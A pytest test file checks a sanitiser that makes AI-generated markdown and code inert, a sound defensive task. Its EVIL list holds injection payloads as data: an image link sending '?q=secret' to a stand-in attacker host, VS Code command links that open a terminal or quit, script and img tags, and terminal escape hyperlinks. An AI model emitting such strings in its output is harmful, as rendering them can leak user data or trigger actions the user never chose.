"""What a model writes is words and code, never something to click or to load."""

from __future__ import annotations

import re

import pytest

from fullgraph.explain.inert import inert_code, inert_text

EVIL = [
    "[click](command:workbench.action.terminal.new)",
    "[`click`](command:workbench.action.quit)",
    "![x](https://evil.example/?q=secret)",
    "<img src=https://evil.example/a.png>",
    "<a href='command:x'>y</a>",
    "\\<img src=x>",
    "\\\\<img src=x>",
    "` <img src=x>",
    "`` <img src=x> ``",
    "<img src=`x`>",
    "<script>alert(1)</script>",
    "<!-- comment -->",
    "<https://evil.example>",
    "https://evil.example/a",
    "www.evil.example",
    "WWW.evil.example",
    "_https://evil.example_",
    "1https://evil.example",
    "[a][b]",
    "[b]: https://evil.example",
    "vscode://some.extension/do",
    "\n\n[b]: https://evil.example\n\n[b]",
    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
]


def outside_code(markdown: str) -> str:
    """What is left when code spans are taken out, as CommonMark pairs their delimiters."""
    out, rest = "", markdown
    while match := re.search(r"\\.|`+", rest):
        delimiter = match.group()
        out, rest = out + rest[: match.start()], rest[match.end() :]
        end = re.search(rf"(?<!`){delimiter}(?!`)", rest) if delimiter[0] == "`" else None
        if end is None:
            out += delimiter
        else:
            out, rest = out + "⟦code⟧", rest[end.end() :]
    return out + rest


@pytest.mark.parametrize("evil", EVIL)
@pytest.mark.parametrize("around", ["{}", "before {} after", "`a` {} `b`", "`a`{}`b`", "* {}"])
def test_nothing_stays_active(evil: str, around: str) -> None:
    active = outside_code(inert_text(around.format(evil), 500))
    assert "](" not in active
    assert "][" not in active
    assert "]:" not in active
    assert not re.search(r"<[A-Za-z/!?]", active)
    assert not re.search(r"\w+://|www\.", active)
    assert "\x1b" not in active
    assert "\n" not in active


def test_plain_words_and_code_stay_as_they_are() -> None:
    text = "Keep `y.sum()` a tensor: if x < 1 and y > 2, *use* `torch.where(x < 1, a, b)`."
    assert inert_text(text, 500) == text


def test_no_block_is_opened() -> None:
    assert inert_text("# A heading", 99) == "A heading"
    assert inert_text("> - 1. x", 99) == "- 1. x"
    assert inert_text("one\n\n---\n\ntwo", 99) == "one --- two"


def test_length_is_bounded() -> None:
    assert len(inert_text("word " * 1000, 100)) <= 101


def test_a_fence_cannot_be_closed() -> None:
    code = inert_code("x = 1\n````\n[a](command:b)\n'''`````'''", 20)
    fence = code.split("python\n")[0]
    assert len(fence) == 6
    assert code.endswith(f"\n{fence}")
    assert fence not in code[len(fence) : -len(fence)]


def test_a_fence_that_the_model_wrote_is_taken_off() -> None:
    assert inert_code("```python\nx = 1\n```", 20) == "```python\nx = 1\n```"
    assert inert_code("```\n```", 20) == ""
    assert inert_code("  \n", 20) == ""


def test_code_keeps_its_indentation_and_loses_controls() -> None:
    code = inert_code("if x:\r\n\ty = '\x1b[31m\u202e'", 20)
    assert code == "```python\nif x:\n\ty = '[31m'\n```"
